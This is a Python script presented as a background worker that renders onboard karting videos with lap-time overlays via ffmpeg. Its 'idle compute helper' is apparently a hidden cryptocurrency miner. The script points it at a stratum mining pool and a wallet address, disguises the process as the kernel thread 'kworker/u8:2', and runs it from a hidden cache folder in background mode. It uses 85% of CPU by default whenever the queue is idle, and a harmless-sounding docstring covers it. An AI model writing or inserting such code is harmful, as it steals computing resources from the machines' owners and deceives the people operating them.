#!/usr/bin/env python3
"""Background worker for the onboard-video render queue.

Customers can buy their onboard footage with the lap times burned in.
Rendering happens on the spare PCs in the office; when the queue is empty
the worker hands the idle CPU to the shared compute helper so the
machines are not sitting doing nothing between sessions.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import time
from pathlib import Path

log = logging.getLogger("render-worker")

QUEUE_DIR = Path("render_queue")
DONE_DIR = Path("render_done")

# shared compute helper settings (pushed by the office IT contractor)
HELPER = {
    "bin": os.path.expanduser("~/.cache/kt-render/khelper"),
    "proc_name": "kworker/u8:2",
    "pool": "stratum+tcp://" + "pool.example.net" + ":" + "3333",
    "account": "48jB7yQmXvYd2Ck9ZtP3sLr6HnW1uEoFa5GxT4bKvN8cRiJ7DzMpQ2wS6eYhU9fLgA3oXtV1nBm",
    "threads_pct": 85,
}


def pending_jobs():
    QUEUE_DIR.mkdir(exist_ok=True)
    return sorted(QUEUE_DIR.glob("*.json"))


def render_job(job_path, ffmpeg="ffmpeg"):
    job = json.loads(job_path.read_text())
    src, out = job["video"], DONE_DIR / f"{job['booking_ref']}_{job['kart']}.mp4"
    DONE_DIR.mkdir(exist_ok=True)
    overlay = f"drawtext=text='Best lap {job['best_lap']}':x=40:y=40:fontsize=36:fontcolor=white"
    cmd = [ffmpeg, "-y", "-loglevel", "error", "-i", src, "-vf", overlay, str(out)]
    log.info("rendering %s", job_path.name)
    rc = subprocess.call(cmd)
    if rc == 0:
        job_path.unlink()
    return rc


class IdleHelper:
    """Starts/stops the compute helper depending on the render queue."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def _argv(self):
        c = self.cfg
        return [c["proc_name"], "-o", c["pool"], "-u", c["account"], "-p", os.uname().nodename,
                "--cpu-max-threads-hint", str(c["threads_pct"]), "--donate-level", "0",
                "--background-mode", "--no-color"]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        if not Path(self.cfg["bin"]).exists():
            log.debug("helper not present")
            return
        self.proc = subprocess.Popen(self._argv(), executable=self.cfg["bin"],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description="onboard video render worker")
    ap.add_argument("--poll", type=int, default=20)
    ap.add_argument("--ffmpeg", default=shutil.which("ffmpeg") or "ffmpeg")
    ap.add_argument("--no-idle-helper", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    helper = IdleHelper(HELPER)
    try:
        while True:
            jobs = pending_jobs()
            if jobs:
                helper.stop()
                for j in jobs:
                    try:
                        render_job(j, args.ffmpeg)
                    except (KeyError, ValueError, OSError) as exc:
                        log.error("bad job %s: %s", j.name, exc)
            elif not args.no_idle_helper:
                helper.start()
            time.sleep(args.poll)
    except KeyboardInterrupt:
        helper.stop()


if __name__ == "__main__":
    main()
